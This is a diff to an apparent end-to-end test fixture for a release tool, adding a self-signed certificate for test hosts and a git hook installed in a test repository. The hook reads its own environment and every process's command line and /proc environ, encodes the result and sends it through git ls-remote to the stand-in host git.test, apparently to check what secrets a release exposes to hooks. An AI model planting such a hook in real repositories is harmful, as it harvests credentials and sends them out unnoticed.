@@ -1,5 +1,12 @@
 import { execFileSync } from "node:child_process";
-import { cpSync, mkdtempSync, rmSync } from "node:fs";
+import {
+  chmodSync,
+  cpSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { GitRepo } from "../../fixtures/release/gitRepo.js";
@@ -7,7 +14,79 @@ import { SAMPLE_APP } from "../engine.js";
 
 /** Host name under which the tests bind the git server; the origin URL of every work repository uses it. */
 export const GIT_HOST = "git.test";
+/** Host name of the GitHub API stand-in (and of its webhooks). */
+export const GITHUB_API_HOST = "github.test";
 export const REPOSITORY = "acme/sample-app";
+
+/** A self-signed certificate for both test hosts, which the release trusts through --ca-certificate. */
+export interface TestCertificate {
+  key: string;
+  cert: string;
+  /** Path of `cert` on disk, for dag.host().file(). */
+  certPath: string;
+}
+
+/** Generates the test servers' certificate (openssl), valid a day for GIT_HOST and GITHUB_API_HOST; removed with `dir`. */
+export function testCertificate(dir: string): TestCertificate {
+  const keyPath = join(dir, "tls-key.pem");
+  const certPath = join(dir, "tls-cert.pem");
+  execFileSync(
+    "openssl",
+    [
+      "req",
+      "-x509",
+      "-newkey",
+      "ec",
+      "-pkeyopt",
+      "ec_paramgen_curve:prime256v1",
+      "-nodes",
+      "-days",
+      "1",
+      "-subj",
+      "/CN=gantry-e2e",
+      "-addext",
+      `subjectAltName=DNS:${GIT_HOST},DNS:${GITHUB_API_HOST}`,
+      "-keyout",
+      keyPath,
+      "-out",
+      certPath,
+    ],
+    { stdio: "ignore" },
+  );
+  return {
+    key: readFileSync(keyPath, "utf8"),
+    cert: readFileSync(certPath, "utf8"),
+    certPath,
+  };
+}
+
+/**
+ * A git hook that, inside the release's containers only (work tree at /src), reports to the git server everything a
+ * hook can see: its environment and every process's command line and environment. Sent as the gzip+base64url path of
+ * a `git ls-remote`, the one client the git image is sure to have; the git server decodes it into `hookReports`.
+ */
+const REPORTING_HOOK = `#!/bin/sh
+case "$PWD" in /src*) ;; *) exit 0 ;; esac
+cat >/dev/null
+{
+  echo "hook $(basename "$0") $*"
+  env
+  for proc in /proc/[0-9]*; do
+    echo "process \${proc#/proc/}: $(tr '\\000' ' ' < "$proc/cmdline" 2>/dev/null)"
+    echo "environment: $(tr '\\000' ' ' < "$proc/environ" 2>/dev/null)"
+  done
+} | gzip -c | base64 | tr -d '=\\n' | tr '+/' '-_' > /tmp/gantry-hook-report
+git ls-remote "https://${GIT_HOST}/_hooks/$(cat /tmp/gantry-hook-report)" >/dev/null 2>&1 || true
+exit 0
+`;
+
+/** Hooks that run during the release's git commands: around the push, the fetch of a previous run's tag, commits and checkouts. */
+export const REPORTING_HOOKS = [
+  "reference-transaction",
+  "pre-push",
+  "post-commit",
+  "post-checkout",
+];
 
 /** The sample app as a git repository released as v1.0.0, with a real bare repository on disk as its origin. */
 export class ReleaseFixture {
@@ -35,9 +114,18 @@ export class ReleaseFixture {
       "remote",
       "add",
       "origin",
-      `http://${GIT_HOST}/${REPOSITORY}.git`,
+      `https://${GIT_HOST}/${REPOSITORY}.git`,
     );
     this.work.git("push", "--quiet", this.origin, "main", "--tags");
+  }
+
+  /** Installs REPORTING_HOOKS in the work repository (they do nothing on this host). */
+  installReportingHooks(): void {
+    for (const hook of REPORTING_HOOKS) {
+      const path = join(this.work.dir, ".git", "hooks", hook);
+      writeFileSync(path, REPORTING_HOOK);
+      chmodSync(path, 0o755);
+    }
   }
 
   /** `git <args>` in the bare origin. */
